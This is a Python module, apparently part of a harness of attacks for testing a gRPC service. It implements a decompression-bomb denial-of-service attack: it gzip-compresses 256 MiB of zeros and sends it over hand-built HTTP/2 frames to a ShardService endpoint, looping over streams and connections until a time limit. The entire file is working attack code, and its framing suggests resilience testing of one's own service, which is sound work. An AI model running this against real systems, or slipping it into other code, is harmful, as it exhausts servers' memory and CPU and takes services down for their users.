"""Requests of 0.9 MB that become 1 GiB when they are decompressed."""

from __future__ import annotations

import gzip
import itertools
import struct
import sys
import time
from contextlib import suppress

from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    connected,
    drain,
    frame,
    header_block,
)

_FRAME = 16_384
# Not one of 1 GiB, which takes seconds to make: as hostile, as long as it is more than a request.
_BYTES = 256 << 20
_REST_S = 0.02


def _strike(target: Target, begin: Begin) -> Counts:
    packed = gzip.compress(bytes(_BYTES), 9)
    message = struct.pack(">BI", 1, len(packed)) + packed
    block = header_block(
        "/headrace.v1.ShardService/GetDataset", (*target.metadata, ("grpc-encoding", "gzip"))
    )
    calls = 0
    until = begin()
    while time.monotonic() < until:
        with (
            suppress(OSError),
            connected(target.place, (INITIAL_WINDOW_SIZE, 1 << 20)) as connection,
        ):
            for stream in itertools.count(1, 2):
                connection.sendall(frame(HEADERS, END_HEADERS, stream, block))
                for at in range(0, len(message), _FRAME):
                    part = message[at : at + _FRAME]
                    is_last = at + _FRAME >= len(message)
                    connection.sendall(frame(DATA, END_STREAM if is_last else 0, stream, part))
                calls += 1
                time.sleep(_REST_S)
                if time.monotonic() >= until or not drain(connection):
                    break
    return {"calls": calls}


ATTACK = Attack("compressed requests", _strike)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
